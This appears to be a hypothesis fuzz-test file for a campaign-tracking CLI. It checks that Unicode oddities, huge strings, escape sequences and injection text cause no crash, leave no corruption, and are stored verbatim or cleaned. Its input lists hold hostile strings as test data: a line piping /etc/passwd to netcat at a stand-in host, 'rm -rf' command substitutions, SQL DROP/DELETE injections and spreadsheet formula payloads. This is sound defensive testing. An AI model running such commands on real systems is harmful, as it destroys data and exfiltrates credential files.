"""Bad input: hypothesis drives the CLI with generated arguments.

Titles, names, owners, dates and codes drawn from every kind of Unicode
(RTL marks, emoji, combining characters, NUL), 100 KB strings, SQL and
shell text. Whatever comes in: the exit code is 0, 1 or 2, never a
traceback, and a refused command leaves the store's content unchanged.
Text that is accepted is stored verbatim (read back with --json).

Each test keeps one store for all its examples (creating one per example
would cost more than the checks); examples are bounded so the file runs in
well under a minute.
"""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest
import typer.testing
from conftest import Campaign, store_snapshot
from figures import record
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from campaign_cli.domain.text import clean_line

pytestmark = pytest.mark.slow

NASTY = [
    "'; DROP TABLE problem; --",
    "x'); DELETE FROM task WHERE ('1'='1",
    "Robert'); DROP TABLE unit;--",
    "1 OR 1=1",
    "%s %d {0} {title} :name ?",
    "$(rm -rf /)",
    "`reboot`",
    "; cat /etc/passwd | nc evil 1",
    "&& echo pwned > /tmp/x",
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u05e9\u05dc\u05d5\u05dd\u200e",  # RTL mark, Hebrew, LTR mark
    "مرحبا بالعالم",
    "😀👨‍👩‍👧‍👦🏳️‍🌈",
    "e\u0301\u0302\u0303\u0304\u0305" * 5,  # combining characters
    "Z̴̡̪̫͖̥̔ͫ̃a̶l̷g̸o̵",
    "nul\x00byte",
    "\x00",
    "tab\there\r\nnewline",
    "=HYPERLINK(\"http://x\")",
    "+cmd|' /C calc'!A0",
    "-",
    "--json",
    "--help",
    "   ",
    "",
    "第１党支部\u3000",
    "\ufeffBOM",
    "\uffff\U0010ffff",
]

SIZES = ["a" * 100_000, "很" * 34_000, "😀" * 25_000, "\u202e" * 50_000 + "x"]

text = st.one_of(
    st.sampled_from(NASTY),
    st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=30),
    st.text(alphabet=st.characters(exclude_categories=("Cs",), max_codepoint=0x7F), max_size=12),
    st.sampled_from(SIZES),
)

dates = st.one_of(
    st.sampled_from(["2023-06-30", "2023/7/1", "7/1", "7月1日", "七月一日", "月底", "6月底", "年底", "年底前",
                     "6月下旬", "today", "tomorrow", "+7d", "+2w", "今天", "明天", "2023-02-30", "2023-13-01",
                     "0000-00-00", "9999-12-31", "+999999999d", "-7d", "31/31", "6月32日", "1/2/3",
                     "2023年5月8日", "五月八日", "'; DROP TABLE phase; --"]),
    st.dates().map(lambda d: d.isoformat()),
    text,
)

codes = st.one_of(
    st.from_regex(r"[PTpt]-[0-9]{1,30}", fullmatch=True),
    st.sampled_from(["P-0", "P--1", "P-1.5", "T-1e9", "P-１", "P-٣", "P- 1"]),
    text,
)

kinds = st.one_of(st.sampled_from(["branch", "department", "支部", "部门", "BRANCH"]), text)

FUZZ = settings(max_examples=60, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large, HealthCheck.large_base_example])

TRIED: dict[str, int] = {}


@pytest.fixture(autouse=True, scope="module")
def _build_command_once():
    """Typer rebuilds the click command on every invoke; build it once here."""
    from typer.main import get_command

    from campaign_cli.cli import app

    command = get_command(app)
    original = typer.testing._get_command
    typer.testing._get_command = lambda given: command if given is app else original(given)
    yield
    typer.testing._get_command = original
    record("fuzz_cli", inputs_tried=sum(TRIED.values()), by_command=dict(sorted(TRIED.items())))


@pytest.fixture
def fuzz_store():
    """One store per test, shared by its examples (which is what we want:
    later examples run against what the earlier ones wrote)."""
    folder = Path(tempfile.mkdtemp(prefix="campaign-fuzz-"))
    store = folder / "campaign.db"
    cli = Campaign(store)
    cli.ok("init", "jssp", "--title", "学习贯彻重要讲话精神", "--year", "2023")
    cli.ok("unit", "add", "教务处", "--kind", "department")
    cli.ok("phase", "add", "开展专题学习", "--start", "4月21日", "--end", "4月28日")
    cli.ok("issue", "add", "作业负担重", "--owner", "王老师", "--dept", "教务处", "--deadline", "2023-06-30")
    yield cli
    import shutil

    shutil.rmtree(folder, ignore_errors=True)



def run(cli: Campaign, name: str, *args: str):
    """One generated command: the promises every invocation keeps."""
    TRIED[name] = TRIED.get(name, 0) + 1
    before = store_snapshot(cli.store)
    result = cli(*args)
    everything = result.stdout + result.stderr
    assert result.exit_code in (0, 1, 2), (args[:3], result.exit_code, everything[-500:])
    assert "Traceback" not in everything
    if result.exit_code != 0:
        assert store_snapshot(cli.store) == before, args[:3]
    return result


@FUZZ
@given(name=text, kind=kinds, members=st.one_of(st.none(), st.integers(-10, 10**12).map(str), text))
def test_unit_add(fuzz_store, name, kind, members):
    args = ["unit", "add", "--kind", kind] + ([] if members is None else ["--members", members])
    args += ["--", name]  # how a user passes a name that looks like an option
    run(fuzz_store, "unit add", *args)


@FUZZ
@given(title=text, start=st.one_of(st.none(), dates), end=dates, notes=st.one_of(st.none(), text))
def test_phase_add(fuzz_store, title, start, end, notes):
    import json

    args = ["phase", "add", "--end", end, "--json"] + (["--start", start] if start else [])
    args += ["--notes", notes] if notes is not None else []
    args += ["--", title]
    result = run(fuzz_store, "phase add", *args)
    if result.exit_code == 0:
        made = json.loads(result.stdout)
        stored = [p for p in fuzz_store.json("phase", "list") if p["seq"] == made["seq"]]
        assert stored and stored[0]["title"] == made["title"] == clean_line(title).strip()


@FUZZ
@given(title=text, owner=text, deadline=dates, dept=st.one_of(st.none(), st.just("教务处"), text),
       measure=st.one_of(st.none(), text))
def test_issue_add(fuzz_store, title, owner, deadline, dept, measure):
    import json

    args = ["issue", "add", "--owner", owner, "--deadline", deadline, "--json"]
    args += ["--dept", dept] if dept is not None else []
    args += ["--measure", measure] if measure is not None else []
    args += ["--", title]
    result = run(fuzz_store, "issue add", *args)
    if result.exit_code == 0:
        made = json.loads(result.stdout)
        shown = fuzz_store.json("issue", "show", made["problem"]["code"])
        assert shown["problem"]["title"] == made["problem"]["title"]
        assert made["problem"]["title"] == clean_line(title).strip()


@FUZZ
@given(code=codes, when=dates, text_value=text)
def test_lookups_and_changes(fuzz_store, code, when, text_value):
    run(fuzz_store, "phase edit", "phase", "edit", code, "--title", text_value)
    run(fuzz_store, "unit rename", "unit", "rename", text_value, code)
    run(fuzz_store, "issue show", "issue", "show", code)
    run(fuzz_store, "issue done", "issue", "done", code, "--on", when, "--evidence", text_value)
    run(fuzz_store, "issue verify", "issue", "verify", code, "--by", text_value)
    run(fuzz_store, "issue reopen", "issue", "reopen", code, "--reason", text_value)
    run(fuzz_store, "issue list", "issue", "list", "--owner", text_value, "--due-within", code)


@FUZZ
@given(key=text, title=text, year=st.one_of(st.integers(-5, 100_000).map(str), text), when=dates)
def test_init(fuzz_store, key, title, year, when):
    run(fuzz_store, "init", "init", key, "--title", title, "--year", year, "--start", when)
    fuzz_store.ok("use", "jssp")


SQL = ["'; DROP TABLE problem; --", "Robert'); DROP TABLE task;--", "\" OR \"\"=\"", "1; SELECT * FROM campaign",
       "$(rm -rf ~)", "`id`", "|| true", "%(title)s :title ?"]


@pytest.mark.parametrize("value", SQL)
def test_sql_and_shell_text_is_stored_verbatim(cli, value):
    cli.ok("init", "a", "--title", value, "--year", "2023")
    assert cli.json("list")[0]["title"] == value
    cli.ok("unit", "add", value, "--kind", "department")
    assert [u["name"] for u in cli.json("unit", "list")] == [value]
    assert cli.json("phase", "add", value, "--end", "年底")["title"] == value
    assert [p["title"] for p in cli.json("phase", "list")] == [value]
    made = cli.json("issue", "add", value, "--owner", value, "--measure", value, "--deadline", "2023-06-30")
    assert made["problem"]["title"] == value and made["task"]["measure"] == value
    assert made["task"]["owner"] == value
    assert [t["measure"] for t in cli.json("issue", "list")] == [value]


ESCAPES = ["\x1b[31m红\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "\x9b31m",
           "\x0b竖排\x0c换页", "a\x08b\x7fc", "\x1bc", "\r回车覆盖", "\u2028\u2029", "\x85"]
any_text = st.one_of(st.sampled_from(ESCAPES),
                     st.text(alphabet=st.characters(exclude_categories=("Cs",)), min_size=1, max_size=24),
                     st.lists(st.sampled_from(ESCAPES + ["字", "x", " "]), min_size=1, max_size=6).map("".join))


def _controls(text: str, keep: str = "") -> set[str]:
    """Control characters (C0, DEL, C1) and line/paragraph separators left in `text`."""
    import unicodedata

    return {c for c in text if c not in keep and (unicodedata.category(c) in ("Cc", "Zl", "Zp"))}


def _xlsx_texts(path: Path) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(path, read_only=True)
    return [v for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for v in row
            if isinstance(v, str)]


@settings(max_examples=25, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(title=any_text, owner=any_text, measure=any_text, detail=any_text)
def test_any_text_in_reaches_no_output_with_a_control_character(fuzz_store, tmp_path_factory, title, owner,
                                                                  measure, detail):
    """Whatever a user pastes (escape sequences, form feeds, C1 controls), the xlsx report, the xlsx export
    and `issue show` carry no control character: the text was cleaned where it entered (SPEC §6)."""
    import json

    made = run(fuzz_store, "issue add", "issue", "add", "--owner", owner, "--deadline", "2023-06-30",
               "--measure", measure, "--detail", detail, "--json", "--", title)
    if made.exit_code != 0:
        return  # nothing left after cleaning: refused with a message, checked elsewhere
    code = json.loads(made.stdout)["problem"]["code"]
    folder = tmp_path_factory.mktemp("out")
    report, export = folder / "report.xlsx", folder / "export.xlsx"
    fuzz_store.ok("report", "--month", "2023-06", "--format", "xlsx", "--output", str(report))
    fuzz_store.ok("export", "--format", "xlsx", "--output", str(export))
    for value in _xlsx_texts(report) + _xlsx_texts(export):
        assert _controls(value, keep="\n\t") == set(), repr(value)
    shown = fuzz_store.ok("issue", "show", code).stdout
    assert _controls(shown, keep="\n") == set(), repr(shown)
